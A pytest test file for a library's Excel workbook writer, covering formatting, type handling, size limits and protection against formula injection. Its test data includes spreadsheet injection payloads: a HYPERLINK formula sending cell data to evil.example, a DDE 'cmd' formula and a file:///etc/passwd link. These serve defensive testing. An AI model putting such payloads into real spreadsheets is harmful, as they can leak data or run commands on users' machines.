"""Tables as Excel workbooks, read back by another library."""

import io
import sys
import zipfile
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from unweave.errors import MissingExtra, SinkError
from unweave.sinks.excel import MAX_CELL_LENGTH, MAX_COLUMNS, MAX_ROWS, encode_excel


def read_sheet(columns):
    return openpyxl.load_workbook(io.BytesIO(encode_excel(columns))).active


def read_column(*cells):
    """Write a column and return its cells below the header."""
    return [
        cell for (cell,) in read_sheet({"x": list(cells)}).iter_rows(min_row=2, values_only=True)
    ]


def test_the_header_is_bold_and_frozen():
    sheet = read_sheet({"name": ["Ada", "Grace"], "age": [36, None]})
    assert list(sheet.iter_rows(values_only=True)) == [
        ("name", "age"),
        ("Ada", 36),
        ("Grace", None),
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:B3"


def test_columns_are_as_wide_as_their_cells():
    sheet = read_sheet(
        {"a": ["x"], "text": ["x" * 30] * 20, "long": ["x" * 5000], "a name of some length": [1]}
    )
    width = [sheet.column_dimensions[letter].width for letter in "ABCD"]
    assert width[0] < 10 < 30 < width[1] < 35 < width[2] < 65
    assert width[3] > len("a name of some length")


def test_values_keep_their_types():
    seen = datetime(2024, 2, 11, 6, 30)
    assert read_column(
        7, Decimal("19.90"), 1.5, True, False, date(2024, 2, 11), seen, time(6, 30)
    ) == [
        7,
        19.9,
        1.5,
        True,
        False,
        datetime(2024, 2, 11),
        seen,
        time(6, 30),
    ]
    sheet = read_sheet({"x": [Decimal("19.90"), Decimal("5"), date(2024, 2, 11)]})
    assert [sheet[f"A{row}"].number_format for row in (2, 3, 4)] == [
        "0.00",
        "General",
        "yyyy-mm-dd",
    ]
    assert sheet["A4"].is_date


def test_times_are_in_utc():
    east = timezone(timedelta(hours=2))
    assert read_column(
        datetime(2024, 2, 11, 6, tzinfo=UTC),
        datetime(2024, 2, 11, 6, tzinfo=east),
        time(6, tzinfo=east),
    ) == [
        datetime(2024, 2, 11, 6),
        datetime(2024, 2, 11, 4),
        time(6),
    ]


@pytest.mark.parametrize(
    ("cell", "text"),
    [
        (date(1815, 12, 10), "1815-12-10"),
        (1234567890123456, "1234567890123456"),
        (Decimal("0.1234567890123456789"), "0.1234567890123456789"),
        (Decimal("1E+400"), "1E+400"),
        (Decimal("NaN"), "NaN"),
        (float("inf"), "inf"),
        (["red", "blue"], "red; blue"),
        (["red", None], "red; "),
        ("007", "007"),
        ("1e5", "1e5"),
        ("true", "true"),
    ],
)
def test_values_that_excel_would_change_are_texts(cell, text):
    assert read_column(cell) == [text]


def test_the_last_datetime_is_written():
    west = timezone(timedelta(hours=-5))
    (found,) = read_column(datetime(9999, 12, 31, 23, 59, 58, tzinfo=west))
    assert found.year == 9999


FORMULAS_AND_LINKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    "{=1+1}",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "http://shop.example/",
    "mailto:a@shop.example",
    "internal:Sheet2!A1",
    "external:c:\\x.xlsx",
    "file:///etc/passwd",
]


@pytest.mark.parametrize("text", FORMULAS_AND_LINKS)
def test_no_cell_becomes_a_formula_or_a_link(text):
    sheet = read_sheet({text: [text]})
    for cell in (sheet["A1"], sheet["A2"]):
        assert (cell.data_type, cell.value, cell.hyperlink) == ("s", text, None)
    file = zipfile.ZipFile(io.BytesIO(encode_excel({text: [text]})))
    assert b"<f>" not in file.read("xl/worksheets/sheet1.xml")
    assert not [name for name in file.namelist() if name.startswith("xl/worksheets/_rels")]


def test_characters_that_xml_cannot_hold_are_left_out():
    assert read_column(
        "a\0\x01\x0b\x1f\ufffe\uffffb", "a\r\nb\rc\td", "\ud800", "🙂", "_x0041_"
    ) == [
        "ab",
        "a\nb\nc\td",
        "\N{REPLACEMENT CHARACTER}",
        "🙂",
        "_x0041_",
    ]


@given(
    st.lists(
        st.text()
        | st.none()
        | st.integers()
        | st.decimals()
        | st.dates()
        | st.datetimes()
        | st.times(),
        max_size=5,
    )
)
def test_any_cells_are_written_and_can_be_read(cells):
    (name, *rows) = read_sheet({"x": cells}).iter_rows(values_only=True)
    assert name == ("x",)
    assert len(rows) == max(
        (number for number, cell in enumerate(cells, start=1) if cell is not None), default=0
    )


@pytest.mark.parametrize("letter", ["x", "🙂"])
def test_long_texts_are_cut_with_a_note(letter):
    (found,) = read_column(letter * 40_000)
    assert found.endswith(" … [cut: 40,000 characters]")
    assert MAX_CELL_LENGTH - 2 <= len(found.encode("utf-16-le")) // 2 <= MAX_CELL_LENGTH
    whole = "x" * MAX_CELL_LENGTH
    assert read_column(whole) == [whole]


def test_tables_that_are_too_large_are_refused():
    with pytest.raises(
        SinkError,
        match="the table has 1,048,577 rows with its header; a sheet of Excel holds 1,048,576",
    ):
        encode_excel({"x": [None] * MAX_ROWS})
    with pytest.raises(SinkError, match="has 16,385 columns; a sheet of Excel holds 16,384"):
        encode_excel({str(number): [] for number in range(MAX_COLUMNS + 1)})


def test_an_empty_table_is_a_workbook():
    assert read_sheet({}).max_row == 1
    assert list(read_sheet({"x": []}).iter_rows(values_only=True)) == [("x",)]
    assert read_sheet({}).title == "Table"


def test_a_missing_package_is_an_error_that_names_the_extra(monkeypatch):
    monkeypatch.setitem(sys.modules, "xlsxwriter", None)
    with pytest.raises(MissingExtra, match=r"pip install 'unweave\[excel\]'"):
        encode_excel({"x": []})
